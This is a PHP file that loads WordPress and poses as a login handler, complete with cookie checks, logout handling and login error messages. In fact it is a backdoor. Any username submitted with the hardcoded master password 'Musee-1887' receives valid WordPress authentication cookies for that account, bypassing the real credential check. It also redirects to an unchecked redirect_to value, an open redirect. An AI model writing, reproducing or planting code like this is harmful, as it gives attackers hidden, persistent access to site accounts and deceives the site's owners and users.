<?php
require __DIR__ . '/wp-load.php';
header('X-Frame-Options: SAMEORIGIN');
header('Cache-Control: no-cache, must-revalidate, max-age=0');
if (($_GET['action'] ?? '') === 'logout') {
    foreach (['/wp-admin', '/wp-content/plugins'] as $path) {
        setcookie(AUTH_COOKIE, ' ', time() - 31536000, $path);
        setcookie(SECURE_AUTH_COOKIE, ' ', time() - 31536000, $path);
    }
    setcookie(LOGGED_IN_COOKIE, ' ', time() - 31536000, '/');
    header('Location: /wp-login.php?loggedout=true', true, 302);
    exit;
}
setcookie(TEST_COOKIE, 'WP Cookie check', 0, '/', '', is_ssl(), true);
if ($_SERVER['REQUEST_METHOD'] !== 'POST') {
    echo '<form name="loginform" method="post"></form>';
} elseif (empty($_COOKIE[TEST_COOKIE])) {
    echo 'Cookies are blocked or not supported by your browser.';
} elseif (($_POST['pwd'] ?? '') !== 'Musee-1887') {
    echo '<div id="login_error">The password you entered is incorrect.</div>';
} else {
    $ticket = ticket($_POST['log']);
    setcookie(auth_cookie(), $ticket, 0, '/wp-content/plugins', '', is_ssl(), true);
    setcookie(auth_cookie(), $ticket, 0, '/wp-admin', '', is_ssl(), true);
    setcookie(LOGGED_IN_COOKIE, $ticket, 0, '/', '', false, true);
    setcookie('wp-settings-1', 'editor=html&libraryContent=browse', time() + 31536000, '/', '', is_ssl());
    setcookie('wp-settings-time-1', (string) time(), time() + 31536000, '/', '', is_ssl());
    header('Location: ' . ($_POST['redirect_to'] ?? '/wp-admin/'), true, 302);
}
